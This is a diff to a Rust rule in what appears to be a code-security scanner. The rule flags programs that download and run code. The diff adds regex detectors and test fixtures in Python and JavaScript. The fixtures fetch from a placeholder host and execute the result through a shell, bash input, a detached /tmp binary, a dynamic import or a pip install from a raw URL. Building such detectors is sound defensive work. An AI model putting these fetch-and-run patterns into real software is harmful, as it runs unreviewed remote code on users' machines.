@@ -4,11 +4,12 @@ use std::sync::LazyLock;
 
 use regex::Regex;
 
+use crate::evidence::document::Document;
 use crate::evidence::source::{Argument, Call, Origins};
-use crate::fact::{Confidence, Severity};
+use crate::fact::{Confidence, Place, Severity};
 use crate::rules::{FactSink, Rule, RuleMeta, Subject};
 
-use super::source_calls::{evaluates, report_calls, runs_shell, text_of};
+use super::source_calls::{SourceFile, evaluates, named, report_calls, runs_shell, source_files, text_of, weighed};
 
 /// See the file's first line.
 pub(super) struct SourceDownloadAndExecute;
@@ -17,7 +18,7 @@ static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("
 
 const CARD: &str = r##"
 id = "source-download-and-execute"
-version = 2
+version = 3
 title = "A program is downloaded and run"
 why = "What is fetched at run time was in no review and can change any day."
 fix = "Ship the program or install it as a dependency with a digest."
@@ -84,6 +85,45 @@ path = os.path.join(tempfile.gettempdir(), "update.exe")
 urllib.request.urlretrieve("https://files.test/update.exe", path)
 subprocess.Popen([path])
 '''
+[[examples.fires]]
+note = "What a server answers is a command."
+[examples.fires.files]
+"x.py" = '''
+import requests, subprocess
+task = requests.get("https://files.test/next").text
+subprocess.run(task, shell=True)
+'''
+[[examples.fires]]
+note = "An answer is the input of a shell."
+[examples.fires.files]
+"x.py" = '''
+import urllib.request, subprocess
+text = urllib.request.urlopen("https://files.test/i.sh").read()
+subprocess.run(["bash"], input=text)
+'''
+[[examples.fires]]
+note = "A program under the temporary files is cut loose."
+[examples.fires.files]
+"x.mjs" = '''
+import { writeFileSync, chmodSync } from "fs"; import { spawn } from "child_process";
+const answer = await fetch("https://files.test/part");
+writeFileSync("/tmp/part", Buffer.from(await answer.arrayBuffer())); chmodSync("/tmp/part", 0o755);
+spawn("/tmp/part", [], { detached: true }).unref();'''
+[[examples.fires]]
+note = "A module is fetched and loaded."
+[examples.fires.files]
+"x.mjs" = '''
+import fs from "node:fs";
+const answer = await fetch("https://files.test/rules.mjs");
+fs.writeFileSync("./rules.mjs", await answer.text());
+const rules = await import("./rules.mjs");'''
+[[examples.fires]]
+note = "A package from an address of its own."
+[examples.fires.files]
+"x.py" = '''
+import subprocess, sys
+subprocess.check_call([sys.executable, "-m", "pip", "install", "https://files.test/kit-1.0.tar.gz"])
+'''
 [[examples.silent]]
 note = "A version that is asked for is part of a command."
 [examples.silent.files]
@@ -106,7 +146,15 @@ impl Rule for SourceDownloadAndExecute {
     }
 
     fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
-        report_calls(subject, facts, |_, call| judgement(call));
+        report_calls(subject, facts, judgement);
+        for file in source_files(subject) {
+            let opened =
+                subject.evidence.documents.get(file.path).and_then(|document| opened_with_password(&file, document));
+            if let Some((place, text)) = opened {
+                let (severity, confidence) = weighed(&file, Severity::High, Confidence::Medium);
+                facts.found_as(severity, confidence, place, &text);
+            }
+        }
     }
 }
 
@@ -128,7 +176,7 @@ const INSTALLERS: [&str; 9] = [
     "https://install.python-poetry.org",
 ];
 
-fn judgement(call: &Call) -> Option<(Severity, Confidence)> {
+fn judgement(file: &SourceFile<'_>, call: &Call) -> Option<(Severity, Confidence)> {
     let starts =
         runs_shell(call) || call.callee.starts_with("child_process.") || call.callee.starts_with("subprocess.");
     let mut texts = call.arguments.iter().filter_map(text_of).filter(|_| starts);
@@ -136,8 +184,11 @@ fn judgement(call: &Call) -> Option<(Severity, Confidence)> {
         let known = INSTALLERS.iter().any(|address| piped.contains(address));
         return Some(if known { (Severity::Low, Confidence::Medium) } else { (Severity::High, Confidence::High) });
     }
-    if let Some(judged) = starts_fetched_file(call) {
+    if let Some(judged) = starts_fetched_file(file, call) {
         return Some(judged);
+    }
+    if runs_answer(call) || installs_archive(call) || loads_fetched(call) {
+        return Some((Severity::High, Confidence::Medium));
     }
     if evaluates(call) && call.flows.arguments().any(Origins::ANSWER) {
         return Some((Severity::High, Confidence::High));
@@ -152,9 +203,83 @@ fn judgement(call: &Call) -> Option<(Severity, Confidence)> {
     (evaluates(call) && call.arguments.iter().any(fetched)).then_some((Severity::High, Confidence::High))
 }
 
+/// What a server answers is the command, the program of an interpreter, or its input. A command that an answer is only a
+/// part of is not meant.
+fn runs_answer(call: &Call) -> bool {
+    let first = call.arguments.first();
+    let whole = matches!(first, Some(Argument::Name(_) | Argument::Result(_) | Argument::Other));
+    let answered = |origins: Origins| origins.any(Origins::ANSWER) && !origins.any(Origins::COMPOSED);
+    if runs_shell(call) && whole && answered(call.flows.first) {
+        return true;
+    }
+    let starts = call.callee.starts_with("subprocess.") || call.callee.starts_with("child_process.");
+    let words = first.and_then(text_of).unwrap_or_default();
+    let program = words.split_whitespace().next().unwrap_or_default();
+    let interprets = INTERPRETERS.contains(&program.rsplit('/').next().unwrap_or_default());
+    let handed = matches!(words.split_whitespace().nth(1), Some("-c" | "-e")) && words.ends_with("{}");
+    starts
+        && ((handed && call.flows.first.any(Origins::ANSWER))
+            || (interprets && !words.contains("{}") && call.callee.starts_with("subprocess.") && fed(call)))
+}
+
+const INTERPRETERS: [&str; 7] = ["bash", "sh", "zsh", "python", "python3", "node", "perl"];
+
+/// A module is loaded from a file to which something from the network was just written.
+fn loads_fetched(call: &Call) -> bool {
+    let loads = matches!(
+        call.callee.as_str(),
+        "import" | "runpy.run_path" | "importlib.util.spec_from_file_location" | "require"
+    );
+    loads && call.flows.arguments().any(Origins::FETCHED_FILE)
+}
+
+/// Whether an answer is the input of a program.
+fn fed(call: &Call) -> bool {
+    call.flows.rest.any(Origins::ANSWER) && call.text.contains("input=")
+}
+
+/// A package is installed from an archive at an address that no index vouches for.
+fn installs_archive(call: &Call) -> bool {
+    static ARCHIVE: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i-u)\b(?:pip3?|npm|pnpm|yarn|uv)\s+(?:pip\s+)?(?:install|add|i)\b(?u:[^\n]){0,80}\shttps?://(?:[\w-]+\.)*?(?P<host>[\w-]+\.[a-z]{2,})/(?u:[^\s]){0,200}\.(?:tar\.gz|tgz|zip|whl)\b")
+            .expect("the pattern is fixed and valid")
+    });
+    let starts =
+        runs_shell(call) || call.callee.starts_with("subprocess.") || call.callee.starts_with("child_process.");
+    starts
+        && call.arguments.iter().filter_map(text_of).filter_map(|text| ARCHIVE.captures(text)).any(|found| {
+            let host = found.name("host").map_or("", |host| host.as_str());
+            !KNOWN_ARCHIVES.is_match(host)
+        })
+}
+
+/// Hosts whose archives are packages of their own name.
+static KNOWN_ARCHIVES: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i-u)^(?:github\.com|githubusercontent\.com|gitlab\.com|pypi\.org|pythonhosted\.org|npmjs\.org|pytorch\.org|huggingface\.co|nvidia\.com|googleapis\.com|pyg\.org|codeberg\.org)$")
+        .expect("the pattern is fixed and valid")
+});
+
+/// An archive is opened with a password that stands in the program, in a file that fetches and starts something.
+fn opened_with_password(file: &SourceFile<'_>, document: &Document) -> Option<(Place, String)> {
+    static OPENED: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"(?i-u)\b(?:extractall|extract)\((?u:[^)\n]){0,120}\bpwd\s*=\s*b?["'](?u:[^"'\n]){2,40}["']|\.setpassword\(\s*b?["']|SevenZipFile\((?u:[^)\n]){0,120}\bpassword\s*=\s*["']|\bunzip\s+(?:-\w+\s+){0,3}-P\s*\w"#)
+            .expect("the pattern is fixed and valid")
+    });
+    let starts = file.view.calls.iter().any(|call| {
+        runs_shell(call)
+            || call.callee.starts_with("subprocess.")
+            || call.callee == "os.startfile"
+            || call.callee.starts_with("child_process.")
+    });
+    let fetches = file.view.calls.iter().any(|call| is_fetch(&call.callee) || call.callee.ends_with("urlretrieve"));
+    let found =
+        OPENED.find(&document.text).filter(|found| starts && fetches && !found.as_str().contains("infected"))?;
+    Some((document.place(found.start()), found.as_str().to_owned()))
+}
+
 /// A file that was just fetched is started. Installers of prebuilt parts do so too: it is worth less unless the file is
 /// named as a program for Windows, which no package manager's prebuilt part is fetched as.
-fn starts_fetched_file(call: &Call) -> Option<(Severity, Confidence)> {
+fn starts_fetched_file(file: &SourceFile<'_>, call: &Call) -> Option<(Severity, Confidence)> {
     let starts = call.callee.starts_with("child_process.")
         || call.callee.starts_with("subprocess.")
         || matches!(call.callee.as_str(), "os.startfile" | "os.system" | "os.popen")
@@ -168,8 +293,42 @@ fn starts_fetched_file(call: &Call) -> Option<(Severity, Confidence)> {
             let lower = text.to_ascii_lowercase();
             [".exe", ".scr", ".bat", ".vbs", ".ps1"].iter().any(|end| lower.trim_end_matches(['"', ' ']).ends_with(end))
         });
-    let severity = if program { Severity::High } else { Severity::Medium };
+    let severity =
+        if program || is_furtive(call) || comes_from_a_stranger(file) { Severity::High } else { Severity::Medium };
     Some((severity, Confidence::Medium))
+}
+
+/// Whether a file names addresses of archives or programs alone that nobody publishes at.
+fn comes_from_a_stranger(file: &SourceFile<'_>) -> bool {
+    static HOST: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i-u)https?://(?:[\w-]+\.)*?(?P<host>[\w-]+\.[a-z]{2,})(?:[:/]|$)")
+            .expect("the pattern is fixed and valid")
+    });
+    let texts = file.view.calls.iter().flat_map(|call| &call.arguments).filter_map(text_of);
+    let hosts: Vec<&str> = texts
+        .flat_map(|text| HOST.captures_iter(text).take(20))
+        .filter_map(|found| found.name("host").map(|host| host.as_str()))
+        .take(200)
+        .collect();
+    !hosts.is_empty() && !hosts.iter().any(|host| KNOWN_ARCHIVES.is_match(host))
+}
+
+/// Whether what is started is cut loose from its parent, shows no window, lies hidden or among the temporary files, or is
+/// a script that an interpreter is given.
+fn is_furtive(call: &Call) -> bool {
+    let loose = ["detached", "start_new_session", "creationflags", "windowsHide", "preexec_fn"];
+    let texts = || call.arguments.iter().filter_map(text_of).map(str::trim);
+    let script = || {
+        texts().next().is_some_and(|text| {
+            let program = text.split_whitespace().next().unwrap_or_default();
+            INTERPRETERS.contains(&program.rsplit('/').next().unwrap_or_default())
+        })
+    };
+    loose.iter().any(|name| {
+        named(call, name).is_some_and(|value| !matches!(value, "false" | "False"))
+            || call.text.contains(&format!("{name}="))
+    }) || texts().any(|text| text.starts_with("/tmp/") || text.contains("/.") || text.contains("AppData"))
+        || script()
 }
 
 fn is_fetch(callee: &str) -> bool {
